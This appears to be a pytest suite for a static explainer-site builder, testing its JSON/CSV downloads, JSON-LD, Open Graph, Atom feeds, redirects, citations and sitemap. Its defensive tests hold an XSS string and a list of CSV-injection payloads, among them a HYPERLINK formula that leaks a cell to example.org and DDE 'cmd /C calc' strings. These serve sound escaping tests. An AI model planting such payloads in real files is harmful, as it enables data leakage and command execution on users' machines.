"""Open data on the real site: downloads, JSON-LD, Open Graph, feeds, stable links, citations, sitemap."""

from __future__ import annotations

import csv
import io
import json
import posixpath
import re
import shutil
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import feedparser
import pytest
import yaml
from babel.dates import format_date
from pyld import jsonld as pyld

from explainer import Site, build_site
from explainer.builder import Build
from explainer.load.history import read_history
from explainer.model.records import RECORD_TYPES, TYPE_BY_NAME, Record
from explainer.model.settings import SOURCE_KINDS
from explainer.outputs.downloads import csv_columns, download_files
from explainer.outputs.feeds import feed_files
from sitebuild import MINIMAL, ROOT, build_project, build_real_site, default_pages, make_project

pytestmark = pytest.mark.build

SITE_URL = yaml.safe_load((ROOT / "mkdocs.yml").read_text(encoding="utf-8"))["site_url"]
SITE_NAME = yaml.safe_load((ROOT / "mkdocs.yml").read_text(encoding="utf-8"))["site_name"]
# 26 April 2024, 00:00 UTC: the date the citations and the feeds must show.
EPOCH = "1714089600"


# -- building and reading -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def real(tmp_path_factory: pytest.TempPathFactory) -> tuple[Site, Path]:
    """The repository's own site, built once with SOURCE_DATE_EPOCH set, and its validated records."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOURCE_DATE_EPOCH", EPOCH)
        site_dir = build_real_site(tmp_path_factory.mktemp("opendata") / "site")
    return build_site(ROOT / "data"), site_dir


def all_records(graph: Site) -> Iterator[Record]:
    for cls in RECORD_TYPES.values():
        yield from graph.all(cls.type)


def page_url(record: Record) -> str:
    return f"{SITE_URL}{record.plural}/{record.id}/"


def page_file(site_dir: Path, record: Record) -> Path:
    return site_dir / record.plural / record.id / "index.html"


def local_file(site_dir: Path, url: str) -> Path:
    """The file in the built site that serves an absolute URL of the site."""
    assert url.startswith(SITE_URL), url
    path = site_dir / url[len(SITE_URL) :]
    return path / "index.html" if url.endswith("/") else path


class Head(HTMLParser):
    """Meta and link elements, JSON-LD scripts and the "Cite this page" text of one page."""

    def __init__(self) -> None:
        super().__init__()
        self.meta: dict[str, str] = {}
        self.links: list[dict[str, str]] = []
        self.anchors: list[str] = []
        self.jsonld: list[str] = []
        self.cite_text: list[str] = []
        self.codes: list[str] = []
        self._script = False
        self._cite = False
        self._code = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "meta":
            key = a.get("property") or a.get("name") or a.get("http-equiv")
            if key:
                self.meta[key] = a.get("content", "")
        elif tag == "link":
            self.links.append(a)
        elif tag == "a" and "href" in a:
            self.anchors.append(a["href"])
        elif tag == "script" and a.get("type") == "application/ld+json":
            self._script = True
            self.jsonld.append("")
        elif tag == "p" and "x-cite-text" in a.get("class", ""):
            self._cite = True
        elif tag == "code":
            self._code = True
            self.codes.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = False
        elif tag == "p":
            self._cite = False
        elif tag == "code":
            self._code = False

    def handle_data(self, data: str) -> None:
        if self._script:
            self.jsonld[-1] += data
        if self._cite:
            self.cite_text.append(data)
        if self._code:
            self.codes[-1] += data


def head(path: Path) -> Head:
    parser = Head()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser


def sitemap_urls(site_dir: Path) -> set[str]:
    tree = ET.parse(site_dir / "sitemap.xml")
    return {loc.text or "" for loc in tree.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")}


# -- 1. downloads ------------------------------------------------------------------------------------


def test_records_json_holds_every_record_unchanged(real: tuple[Site, Path]) -> None:
    graph, site_dir = real
    document = json.loads((site_dir / "data" / "records.json").read_bytes())
    entries = {(e["type"], e["id"]): e for e in document["records"]}
    expected = {(r.type, r.id): r for r in all_records(graph)}
    assert len(document["records"]) == len(entries) == len(expected)
    assert set(entries) == set(expected)
    assert document["site"] == {"name": SITE_NAME, "url": SITE_URL}
    for cls in RECORD_TYPES.values():
        assert document["types"][cls.type]["count"] == graph.count(cls.type)
    for key, record in expected.items():
        entry = entries[key]
        assert entry["page_url"] == page_url(record)
        assert local_file(site_dir, entry["page_url"]).is_file()
        assert entry["fields"] == record.model_dump(mode="json")
        assert type(record).model_validate(entry["fields"], context={"languages": document["languages"]}) == record
        refs = list(record.refs())
        assert [(r["type"], r["id"]) for r in entry["references"]] == [(t, i) for _, t, i in refs]
        for ref, (loc, type_, rid) in zip(entry["references"], refs, strict=True):
            target = graph.get(type_, rid)
            assert ref["pointer"] == "".join(f"/{part}" for part in loc)
            assert ref["name"] == target.label
            assert ref["page_url"] == page_url(target)
            assert _at_pointer(entry["fields"], ref["pointer"]) == rid
        cites = list(record.all_citations())
        assert len(entry["citations"]) == len(cites)
        for out, (_, cite) in zip(entry["citations"], cites, strict=True):
            source = graph.get("source", cite.source)
            assert out["source"]["id"] == source.id
            assert out["source"]["page_url"] == page_url(source)
            assert out["source"]["url"] == source.url  # type: ignore[attr-defined]
            assert local_file(site_dir, out["source"]["page_url"]).is_file()
            assert out["excerpt"] == cite.excerpt
            assert _at_pointer(entry["fields"], out["pointer"])["source"] == source.id


def _at_pointer(value: Any, pointer: str) -> Any:
    for part in pointer.split("/")[1:]:
        value = value[int(part)] if isinstance(value, list) else value[part]
    return value


def test_csv_files_hold_every_record_unchanged(real: tuple[Site, Path]) -> None:
    graph, site_dir = real
    languages = json.loads((site_dir / "data" / "records.json").read_bytes())["languages"]
    assert languages == ["en", "ko"]
    for cls in RECORD_TYPES.values():
        text = (site_dir / "data" / f"{cls.plural}.csv").read_bytes().decode("utf-8")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        header, body = rows[0], rows[1:]
        assert header == csv_columns(cls.type) == ["id", "page_url", *(f for f in cls.model_fields if f != "id")]
        records = graph.all(cls.type)
        assert [row[0] for row in body] == [r.id for r in records], cls.plural
        for row, record in zip(body, records, strict=True):
            cells = dict(zip(header, row, strict=True))
            assert cells.pop("page_url") == page_url(record)
            expected = record.model_dump(mode="json")
            decoded: dict[str, Any] = {}
            for name, cell in cells.items():
                value = expected[name]
                # The documented encoding: lists and objects are JSON, an empty cell is an absent field.
                # A value that would begin as a formula is written after an apostrophe.
                if cell.startswith("'") and cell[1:2] in ("=", "+", "-", "@", "\t", "\r"):
                    cell = cell[1:]
                decoded[name] = json.loads(cell) if isinstance(value, (list, dict)) else (cell or None)
            assert decoded == expected, record.id
            assert cls.model_validate(decoded, context={"languages": languages}) == record


def test_schemas_are_published(real: tuple[Site, Path]) -> None:
    _, site_dir = real
    for cls in RECORD_TYPES.values():
        published = site_dir / "data" / "schemas" / f"{cls.type}.schema.json"
        assert json.loads(published.read_bytes())["$id"] == f"{cls.type}.schema.json"
        committed = ROOT / "schemas" / f"{cls.type}.schema.json"
        if committed.is_file():
            assert published.read_bytes() == committed.read_bytes()


def test_data_page_documents_every_column_and_links_every_download(real: tuple[Site, Path]) -> None:
    _, site_dir = real
    text = (ROOT / "content" / "data.md").read_text(encoding="utf-8")
    for cls in RECORD_TYPES.values():
        for column in csv_columns(cls.type):
            assert f"`{column}`" in text, (cls.plural, column)
    hrefs = set(head(site_dir / "data" / "index.html").anchors)
    for path in download_files(Build.offline(ROOT / "mkdocs.yml").edition()):
        assert posixpath.relpath(path, "data") in hrefs, path
        assert (site_dir / path).is_file()


def test_downloads_are_deterministic_and_follow_source_date_epoch() -> None:
    edition = Build.offline(MINIMAL / "mkdocs.yml").edition()
    graph = edition.site
    assert download_files(edition) == download_files(edition)
    fixed = feed_files(edition, {"SOURCE_DATE_EPOCH": "1700000000"})
    assert b"<updated>2023-11-14T22:13:20Z</updated>" in fixed["events.atom"]
    unset = feed_files(edition, {})
    assert unset == feed_files(edition, {})
    newest = max(e.when.first for e in graph.timeline).isoformat()
    assert feedparser.parse(unset["events.atom"]).feed.updated == f"{newest}T00:00:00Z"


# -- 2. structured metadata ----------------------------------------------------------------------------

SCHEMA = "http://schema.org/"
# A minimal stand-in for https://schema.org's context: tests have no network.
SCHEMA_CONTEXT = {"@context": {"@vocab": SCHEMA}}
EXPECTED_TYPES = {"event": "Event", "quote": "Quotation", "organisation": "Organization", "person": "Person"}
CREATIVE_WORKS = {
    "NewsArticle",
    "OpinionNewsArticle",
    "Report",
    "Article",
    "CreativeWork",
    "Book",
    "ScholarlyArticle",
    "Legislation",
    "WebPage",
}


def load_document(url: str, options: dict[str, Any] | None = None) -> dict[str, Any]:
    if url.rstrip("/") in ("https://schema.org", "http://schema.org"):
        return {"contextUrl": None, "documentUrl": url, "document": SCHEMA_CONTEXT}
    raise AssertionError(f"the JSON-LD asks for {url}; only the schema.org context may be loaded")


def _values(node: Any, key: str) -> Iterator[Any]:
    """Every value of a property anywhere in an expanded JSON-LD tree."""
    if isinstance(node, list):
        for item in node:
            yield from _values(item, key)
    elif isinstance(node, dict):
        for k, v in node.items():
            if k == key:
                yield from v
            yield from _values(v, key)


def _absolute_http(url: str) -> bool:
    parts = urlsplit(url)
    return parts.scheme in ("http", "https") and bool(parts.netloc)


def test_every_record_page_carries_schema_org_json_ld(real: tuple[Site, Path]) -> None:
    graph, site_dir = real
    assert {word.schema_org for word in SOURCE_KINDS.values()} <= CREATIVE_WORKS
    for record in all_records(graph):
        page = head(page_file(site_dir, record))
        assert len(page.jsonld) == 1, record.id
        assert "</" not in page.jsonld[0]
        expanded = pyld.expand(json.loads(page.jsonld[0]), {"documentLoader": load_document})
        [webpage] = expanded
        assert webpage["@type"] == [SCHEMA + "WebPage"]
        assert webpage["@id"] == page_url(record)
        [entity] = webpage[SCHEMA + "mainEntity"]
        if record.type == "source":
            assert entity["@type"] == [SCHEMA + str(SOURCE_KINDS[record.kind].schema_org)], record.id  # type: ignore[attr-defined]
            assert entity[SCHEMA + "url"] == [{"@value": record.url}]  # type: ignore[attr-defined]
        else:
            assert entity["@type"] == [SCHEMA + EXPECTED_TYPES[record.type]], record.id
        if record.type == "quote":
            assert entity[SCHEMA + "creator"], record.id
            assert entity[SCHEMA + "isBasedOn"], record.id
            assert entity[SCHEMA + "citation"], record.id
        cited = list(_values(expanded, SCHEMA + "citation"))
        expected = {page_url(n.source) + "#source" for n in graph.numbered_sources(record)}
        assert {c["@id"] for c in cited} == expected, record.id
        for citation in cited:
            assert _absolute_http(citation["@id"])
            [url] = citation[SCHEMA + "url"]
            assert _absolute_http(url["@value"])


def test_every_page_has_a_description_and_open_graph(real: tuple[Site, Path]) -> None:
    graph, site_dir = real
    urls = sitemap_urls(site_dir)
    assert len(urls) > sum(graph.count(t) for t in graph.records)
    for url in sorted(urls):
        page = head(local_file(site_dir, url))
        assert page.meta.get("description", "").strip(), url
        for prop in ("og:title", "og:type", "og:description", "og:site_name"):
            assert page.meta.get(prop, "").strip(), (url, prop)
        assert page.meta["og:url"] == url
    event = graph.timeline[-1]
    page = head(page_file(site_dir, event))
    assert page.meta["og:title"] == event.title
    assert page.meta["og:type"] == "article"
    not_found = head(site_dir / "404.html")
    assert not_found.meta["og:title"] == SITE_NAME and not_found.meta["description"]


HOSTILE = '</script><script>alert(1)</script> & "Tom\'s" {harbour} 100%'


def test_record_text_cannot_escape_its_place_in_metadata(tmp_path: Path) -> None:
    project = make_project(MINIMAL, tmp_path)
    event_file = project / "data" / "events" / "2024-04-26-harbour-closure.yml"
    text = event_file.read_text(encoding="utf-8")
    title = "The harbour of Port Example is closed to fishing boats"
    event_file.write_text(text.replace(f"title: {title}", f"title: {json.dumps(HOSTILE)}"), encoding="utf-8")
    site_dir = build_project(project)

    html = (site_dir / "events" / "2024-04-26-harbour-closure" / "index.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in html
    page = head(site_dir / "events" / "2024-04-26-harbour-closure" / "index.html")
    assert json.loads(page.jsonld[0])["mainEntity"]["name"] == HOSTILE
    assert page.meta["og:title"] == HOSTILE
    assert HOSTILE in "".join(page.cite_text)
    csl = json.loads(next(c for c in page.codes if c.startswith("[")))
    assert csl[0]["title"] == HOSTILE
    feed = feedparser.parse((site_dir / "events.atom").read_bytes())
    assert feed.bozo == 0 and HOSTILE in [e.title for e in feed.entries]


# -- 3. feeds -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["events", "sources"])
def test_feeds_are_valid_atom_newest_first(real: tuple[Site, Path], name: str) -> None:
    graph, site_dir = real
    feed = feedparser.parse((site_dir / f"{name}.atom").read_bytes())
    assert feed.bozo == 0, feed.get("bozo_exception")
    assert feed.version == "atom10"
    assert feed.feed.updated == "2024-04-26T00:00:00Z"
    type_ = name[:-1]
    assert len(feed.entries) == graph.count(type_)
    assert len({e.id for e in feed.entries}) == len(feed.entries)
    dates = [e.updated_parsed for e in feed.entries]
    if type_ == "source":
        # Sources with neither a publication nor an access date come last, dated like the feed.
        dated = sum(1 for s in graph.sources if s.published or s.accessed)
        dates = dates[:dated]
    assert dates == sorted(dates, reverse=True)
    for entry in feed.entries:
        assert local_file(site_dir, entry.link).is_file()
        assert _absolute_http(entry.id)
    page = head(page_file(site_dir, graph.timeline[0]))
    feeds = [link for link in page.links if link.get("type") == "application/atom+xml"]
    assert any(urljoin(page_url(graph.timeline[0]), f["href"]) == f"{SITE_URL}{name}.atom" for f in feeds)


# -- 4. stable links --------------------------------------------------------------------------------------------


def test_a_renamed_record_keeps_its_old_address(tmp_path: Path) -> None:
    graph = build_site(ROOT / "data")
    incoming = {e.id: 0 for e in graph.timeline}
    for record in all_records(graph):
        for _, type_, rid in record.refs():
            if type_ == "event":
                incoming[rid] += 1
    old = max((e for e in graph.timeline if not e.aliases), key=lambda e: (incoming[e.id], e.id)).id
    new = old + "-renamed"
    project = make_project(ROOT, tmp_path)
    shutil.rmtree(project / "data")
    shutil.copytree(ROOT / "data", project / "data")
    word = re.compile(rf"(?<![a-z0-9-]){re.escape(old)}(?![a-z0-9-])")
    for path in [*(project / "data").rglob("*.yml"), *(project / "content").rglob("*.md")]:
        text = path.read_text(encoding="utf-8")
        if word.search(text):
            path.write_text(word.sub(new, text), encoding="utf-8")
    renamed = project / "data" / "events" / f"{new}.yml"
    (project / "data" / "events" / f"{old}.yml").rename(renamed)
    renamed.write_text(renamed.read_text(encoding="utf-8").rstrip("\n") + f"\naliases:\n- {old}\n", encoding="utf-8")

    site_dir = build_project(project)

    old_page = site_dir / "events" / old / "index.html"
    page = head(old_page)
    delay, _, target = page.meta["refresh"].partition(";")
    assert delay.strip() == "0"
    target = target.strip().removeprefix("url=")
    old_url = f"{SITE_URL}events/{old}/"
    new_url = f"{SITE_URL}events/{new}/"
    assert urljoin(old_url, target) == new_url
    assert local_file(site_dir, urljoin(old_url, target)).is_file()
    assert [link["href"] for link in page.links if link.get("rel") == "canonical"] == [new_url]
    assert [urljoin(old_url, href) for href in page.anchors] == [new_url]
    assert old_url not in sitemap_urls(site_dir) and new_url in sitemap_urls(site_dir)
    entries = {e["id"]: e for e in json.loads((site_dir / "data" / "records.json").read_bytes())["records"]}
    assert entries[new]["fields"]["aliases"] == [old] and old not in entries
    feed = feedparser.parse((site_dir / "events.atom").read_bytes())
    [entry] = [e for e in feed.entries if e.link == new_url]
    assert entry.id == old_url  # a feed reader does not see the renamed event as new


# -- 5. cite this page ------------------------------------------------------------------------------------------


def test_every_record_page_offers_a_citation_of_itself(real: tuple[Site, Path]) -> None:
    graph, site_dir = real
    history = read_history(ROOT)
    for record in all_records(graph):
        page = head(page_file(site_dir, record))
        text = "".join(page.cite_text)
        assert SITE_NAME in text and record.label in text and page_url(record) in text, record.id
        # The version is the record's last commit (the build date where git cannot say).
        changed = history.last_change(graph.path_of(record))
        version = changed.date() if changed else date(2024, 4, 26)
        assert f"(version of {format_date(version, 'long', locale='en_GB')})" in text, record.id
        bibtex = next(c for c in page.codes if c.startswith("@misc{"))
        assert bibtex.startswith(f"@misc{{{record.type}-{record.id},") and page_url(record) in bibtex
        csl = json.loads(next(c for c in page.codes if c.startswith("[")))
        assert csl[0]["URL"] == page_url(record) and csl[0]["title"] == record.label
        assert csl[0]["accessed"] == {"date-parts": [[2024, 4, 26]]}


# -- 6. sitemap ----------------------------------------------------------------------------------------------------


def test_sitemap_lists_every_page(real: tuple[Site, Path]) -> None:
    graph, site_dir = real
    urls = sitemap_urls(site_dir)
    for record in all_records(graph):
        assert page_url(record) in urls, record.id
    for name in ("timeline", "contested", "sources", "organisations", "people", "quotes", "data"):
        assert f"{SITE_URL}{name}/" in urls
    for md in default_pages(ROOT / "content"):
        assert (SITE_URL if md.stem == "index" else f"{SITE_URL}{md.stem}/") in urls, md
        assert (f"{SITE_URL}ko/" if md.stem == "index" else f"{SITE_URL}ko/{md.stem}/") in urls, md
    redirects = {site_dir / TYPE_BY_NAME[type_].plural / alias for type_, alias in graph.redirects}
    pages = {p.parent for p in site_dir.rglob("index.html")} - redirects
    assert {local_file(site_dir, url).parent for url in urls} == pages


FORMULAS = [
    '=HYPERLINK("https://example.org/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
]
"""Hostile first characters; a carriage return cannot reach a cell: validation refuses it in text."""


@pytest.mark.build
@pytest.mark.parametrize("payload", FORMULAS, ids=["equals", "plus", "minus", "at", "tab"])
def test_a_csv_cell_that_would_run_as_a_formula_is_text(payload: str, tmp_path: Path) -> None:
    """OWASP's CSV-injection guidance: a cell that begins as a formula begins with an apostrophe."""
    project = make_project(MINIMAL, tmp_path)
    person = project / "data" / "people" / "ana-marin.yml"
    data = yaml.safe_load(person.read_text(encoding="utf-8"))
    data["description"] = payload
    person.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    site = build_project(project)
    rows = list(csv.DictReader(io.StringIO((site / "data" / "people.csv").read_bytes().decode("utf-8"), newline="")))
    (cell,) = [row["description"] for row in rows if row["id"] == "ana-marin"]
    assert cell == "'" + payload
    # Only the cells that need it: the other person's description is as written.
    (other,) = [row["description"] for row in rows if row["id"] != "ana-marin"]
    assert not other.startswith("'")
